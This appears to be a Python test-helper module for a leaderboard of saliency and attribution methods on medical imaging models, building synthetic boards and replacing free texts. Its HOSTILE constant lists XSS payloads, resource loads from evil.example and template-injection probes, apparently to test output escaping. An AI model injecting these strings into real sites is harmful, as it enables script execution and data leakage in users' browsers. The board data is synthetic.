"""Boards made up from numbers: many methods, ties, every way to end, and texts of one's choice."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import numpy as np
import pytest
from scipy import stats

from benchmark.records.identity import sha256_of
from benchmark.results.result import Number
from leaderboard.board.board import (
    Board,
    BoardCell,
    BoardProtocol,
    ModelBoard,
    ProtocolHealth,
    Row,
    Standing,
)
from leaderboard.published.fields import Method
from leaderboard.site import figures as pictures

FIGURES = ("draw_method", "draw_forest", "draw_ranks", "draw_costs")
LONG = "a_method_whose_author_could_not_decide_on_anything_shorter_than_"
FAMILIES = {
    "gradient": ("saliency", "smoothgrad", "integrated_gradients", "gradient_shap"),
    "class activation": ("cam", "gradcam", "gradcampp", "layercam", "hirescam"),
    "relevance": ("lrp_epsilon", "lrp_gamma", "lrp_composite"),
    "perturbation": ("occlusion", "rise"),
    "reference difference": ("deeplift", "deeplift_shap"),
    "third party": ("my.cam+v2", LONG),
}
GATE_FAILED = ("guided_backprop", "guided_gradcam")
UNRANKED = ("attention_rollout", "half_measured")
CONTROLS = ("oracle", "centre", "intensity", "random")
PROTOCOLS = (
    BoardProtocol(
        name="delta_t",
        version="1.0",
        question="Does removing what the map marks move the group statistic?",
        statistic="delta_t",
        direction="higher",
        gate=False,
    ),
    BoardProtocol(
        name="positive_control",
        version="1.0",
        question="Does the map find a signal that was planted?",
        statistic="found",
        direction="higher",
        gate=False,
    ),
    BoardProtocol(
        name="roi_pointing",
        version="1.1",
        question="Does the map load on anatomy that the disease is known to change?",
        statistic="ap",
        direction="higher",
        gate=False,
    ),
    BoardProtocol(
        name="randomization",
        version="1.0",
        question="Does the map depend on what the model has learned?",
        statistic="learned_share",
        direction="higher",
        gate=True,
    ),
)
MODELS = ("smallresnet", "smallvgg", "smallvit")
_HIT = "window.hit=1"
# What a stranger could write into a field, to have a browser do something.
HOSTILE = (
    f"<script>{_HIT}</script>",
    f"<SCRIPT>{_HIT}</SCRIPT>",
    f"<scr<script>ipt>{_HIT}</scr</script>ipt>",
    f"</script><script>{_HIT}</script>",
    f"<script src=data:text/javascript,{_HIT}></script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{_HIT}</script>",
    f"<img src=x onerror={_HIT}>",
    f"<img src=x onerror='{_HIT}'>",
    f'"><img src=x onerror={_HIT}>',
    f"'><img src=x onerror={_HIT}>",
    f"`><img src=x onerror={_HIT}>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset=https://evil.example/2x.png>",
    f"<svg onload={_HIT}>",
    f"<svg><script>{_HIT}</script></svg>",
    f"<svg/onload={_HIT}//",
    f"<svg><animate onbegin={_HIT} attributeName=x dur=1s>",
    f"<body onload={_HIT}>",
    f'" onmouseover="{_HIT}',
    f"' onmouseover='{_HIT}",
    f'" autofocus onfocus="{_HIT}" x="',
    f"<input autofocus onfocus={_HIT}>",
    f"<details open ontoggle={_HIT}>",
    f"<video><source onerror={_HIT}></video>",
    f"<audio src=x onerror={_HIT}>",
    f"<iframe src=javascript:{_HIT}></iframe>",
    f"<iframe srcdoc='<script>parent.{_HIT}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    f"<object data=javascript:{_HIT}></object>",
    f"<embed src=javascript:{_HIT}>",
    f"<a href=javascript:{_HIT}>x</a>",
    f"javascript:{_HIT}",
    f"<math><mtext></mtext><script>{_HIT}</script></math>",
    f"<form action=javascript:{_HIT}><button>x</button></form>",
    "<form action=https://evil.example><input name=x></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<p style=background:url(https://evil.example/y.png)>",
    f"</title><script>{_HIT}</script>",
    f"</style><script>{_HIT}</script>",
    f"</textarea><script>{_HIT}</script>",
    f"</option></select><script>{_HIT}</script>",
    f"--><script>{_HIT}</script><!--",
    f"<![CDATA[<script>{_HIT}</script>]]>",
    f"<template><script>{_HIT}</script></template>",
    f"<noscript><img src=x onerror={_HIT}></noscript>",
    f"&lt;script&gt;{_HIT}&lt;/script&gt;",
    f"&#60;script&#62;{_HIT}&#60;/script&#62;",
    f"\\x3cscript\\x3e{_HIT}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{_HIT}\\u003c/script\\u003e",
    f"＜script＞{_HIT}＜/script＞",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"${{{_HIT}}}",
    f"<x contenteditable onblur={_HIT}>",
    f"<marquee onstart={_HIT}>",
    f"<portal src=javascript:{_HIT}>",
)


def full_board(models: tuple[str, ...] = MODELS) -> Board:
    """Return a board with everything on it that a board can hold."""
    checksums = {
        f"phantom/{model}/{name}/{one.name}.json": sha256_of([model, name, one.name])
        for model in models
        for name in (*_families(), *GATE_FAILED, *UNRANKED, *CONTROLS)
        for one in PROTOCOLS
        if (name, one.name) != ("half_measured", "roi_pointing")
    }
    return Board(
        suite="v1",
        seed=0,
        protocols=PROTOCOLS,
        models=tuple(_model(model, place) for place, model in enumerate(models)),
        records=checksums,
        content=sha256_of(checksums),
    )


def only(board: Board, *names: str) -> Board:
    """Return the board with the rows of some explainers alone."""
    models = [
        one.model_copy(update={"rows": tuple(row for row in one.rows if row.explainer in names)})
        for one in board.models
    ]
    return board.model_copy(update={"models": tuple(models)})


def with_texts(board: Board, say: Callable[[str], str]) -> Board:
    """Return the board with every free text replaced; equal texts stay equal.

    Args:
        board: To change.
        say: From a text to the one that takes its place.
    """

    def row(one: Row) -> Row:
        method = one.method.model_copy(
            update={
                "title": say(f"title of {one.explainer}"),
                "family": say(f"family {one.method.family}"),
                "paper": say(f"paper of {one.explainer}"),
            }
        )
        config = {say(f"setting of {one.explainer}"): say(f"value of {one.explainer}")}
        cells = tuple(
            cell.model_copy(update={"reason": say(f"why {one.explainer} {cell.protocol}")})
            for cell in one.cells
        )
        told = {
            "method": method,
            "config": config,
            "version": say(f"version of {one.explainer}"),
            "submitter": say(f"submitter of {one.explainer}"),
            "reason": None if one.reason is None else say(f"reason of {one.explainer}"),
            "cells": cells,
        }
        return one.model_copy(update=told)

    def model(one: ModelBoard) -> ModelBoard:
        health = tuple(
            state.model_copy(update={"reason": say(f"health {state.protocol}")})
            for state in one.health
        )
        return one.model_copy(update={"health": health, "rows": tuple(map(row, one.rows))})

    protocols = tuple(
        one.model_copy(update={"question": say(f"question of {one.name}")})
        for one in board.protocols
    )
    return board.model_copy(
        update={"protocols": protocols, "models": tuple(map(model, board.models))}
    )


def _families() -> dict[str, str]:
    return {name: family for family, names in FAMILIES.items() for name in names}


def _model(model: str, seed: int) -> ModelBoard:
    draw = np.random.default_rng(seed)
    ranked = draw.permutation(sorted(_families())).tolist()
    scores = np.sort(draw.uniform(0.05, 0.95, len(ranked)))[::-1][:, None]
    scores = scores + draw.normal(0, 0.15, (len(ranked), 3))
    totals = scores.mean(1)
    order = np.argsort(-totals)
    groups = 1 + np.cumsum(np.diff(np.append(totals[order][0], totals[order])) < -0.055)
    mean_ranks = np.mean([stats.rankdata(-column) for column in scores.T], 0)
    rows = []
    for place, index in enumerate(order):
        low = int(np.flatnonzero(groups == groups[place])[0]) + 1
        high = int(np.flatnonzero(groups == groups[place])[-1]) + 1
        standing = Standing(
            rank=low,
            low=max(1, place - 1),
            high=min(len(order), max(high, place + 2)),
            group=int(groups[place]),
            total=_number(totals[index], 0.04),
            mean_rank=round(float(mean_ranks[index]), 4),
            rank_by_mean_rank=int(stats.rankdata(mean_ranks, "min")[index]),
        )
        cells = _cells(scores[index], True, draw)
        rows.append(_row(ranked[index], _families()[ranked[index]], cells, standing=standing))
    rows += [_apart(name, draw) for name in (*GATE_FAILED, *UNRANKED, *CONTROLS)]
    return ModelBoard(
        cohort="phantom",
        model=model,
        cohort_fingerprint=sha256_of("phantom"),
        weights_sha256=sha256_of(model),
        n_subjects=160,
        tau=float(round(stats.kendalltau(-totals, mean_ranks).statistic, 4)),
        health=_health(seed),
        rows=tuple(rows),
    )


def _apart(name: str, draw: np.random.Generator) -> Row:
    if name in GATE_FAILED:
        cells = _cells(draw.uniform(0, 0.5, 3), False, draw)
        return _row(name, "gradient", cells, "gate failed", "randomization: learned too little")
    if name == "attention_rollout":
        cells = [
            BoardCell(protocol=one.name, state="unsupported", reason="it calls no attention")
            for one in PROTOCOLS
        ]
        return _row(name, "attention", cells, "not ranked", "delta_t: unsupported, no attention")
    if name == "half_measured":
        cells = _cells(draw.uniform(0, 1, 3), True, draw)
        cells[0] = BoardCell(protocol="delta_t", state="not assessable", reason="nothing to remove")
        cells[1] = cells[1].model_copy(
            update={"score": Number(estimate=None, low=None, high=None), "calibrated": None}
        )
        cells[2] = BoardCell(protocol="roi_pointing", state="missing", reason="there is no record")
        return _row(name, "gradient", cells, "not ranked", "no record of roi_pointing")
    level = {"oracle": 1.0, "random": 0.0}.get(name, -0.05)
    cells = _cells(np.full(3, level), False, draw, exact=name in ("oracle", "random"))
    return _row(name, "", cells, "control", "it looks at no model")


def _row(name: str, family: str, cells: list[BoardCell], *more: Any, **standing: Any) -> Row:
    status, reason = more or ("ranked", None)
    third = family == "third party"
    return Row(
        explainer=name,
        version="1.0",
        config={"layer": "last", "steps": 64} if family != "gradient" else {},
        method=Method(
            title=name if not third else "My own method, much better than the others",
            family=family,
            paper="" if family == "third party" else "Somebody et al. 2019, On maps",
            control=status == "control",
            polarity="positive",
        ),
        submitter="a hospital far away" if third else "medsanity",
        tier="self-reported" if third else ("audited" if name == "saliency" else "reproduced"),
        source_sha256=sha256_of(name) if third else None,
        status=status,
        reason=reason,
        standing=standing.get("standing"),
        cells=tuple(cells),
    )


def _cells(
    scores: Any, passes: bool, draw: np.random.Generator, *, exact: bool = False
) -> list[BoardCell]:
    cells = []
    dear = int(10 ** draw.uniform(2, 5.5))
    for one, level in zip(PROTOCOLS, (*scores, 0.8 if passes else 0.2), strict=True):
        won = level > 0.15
        cells.append(
            BoardCell(
                protocol=one.name,
                state="scored",
                reason=None if won else "it is no better than noise",
                verdict="pass" if won and (passes or not one.gate) else "fail",
                score=_number(0.1 + 0.4 * level, 0.03),
                calibrated=None if one.gate else _number(level, 0.0 if exact else 0.08),
                n_subjects=64,
                n_asked=64,
                seconds=round(dear / 900, 3),
                forward=dear,
                backward=dear // 2,
                identity_sha256=sha256_of([one.name, float(level)]),
            )
        )
    return cells


def _number(value: float, spread: float) -> Number:
    return Number(
        estimate=round(float(value), 4),
        low=round(float(value) - spread, 4),
        high=round(float(value) + 1.2 * spread, 4),
    )


def _health(seed: int) -> tuple[ProtocolHealth, ...]:
    states = [
        (True, "no map scores better than the truth"),
        (True, "no map passes that looks at no model (centre, random)"),
        (False, "layercam scores better than the truth by 0.061 [0.022, 0.101]"),
        (None, "not known, since random was not scored"),
    ]
    return tuple(
        ProtocolHealth(protocol=one.name, healthy=healthy, reason=reason)
        for one, (healthy, reason) in zip(PROTOCOLS, states[seed:] + states[:seed], strict=True)
    )


def sayer(phrases: tuple[str, ...]) -> Callable[[str], str]:
    """Return a function that gives every distinct text the next phrase, round and round."""
    given: dict[str, str] = {}

    def say(text: str) -> str:
        place = len(given)
        return given.setdefault(text, f"{phrases[place % len(phrases)]} {place}")

    return say


def draw_nothing(
    patch: pytest.MonkeyPatch, drawn: bytes = b'<svg width="720pt" height="300pt"/>'
) -> None:
    """Put one picture in the place of all, for tests about something else."""
    for name in FIGURES:
        patch.setattr(pictures, name, lambda *_: drawn)
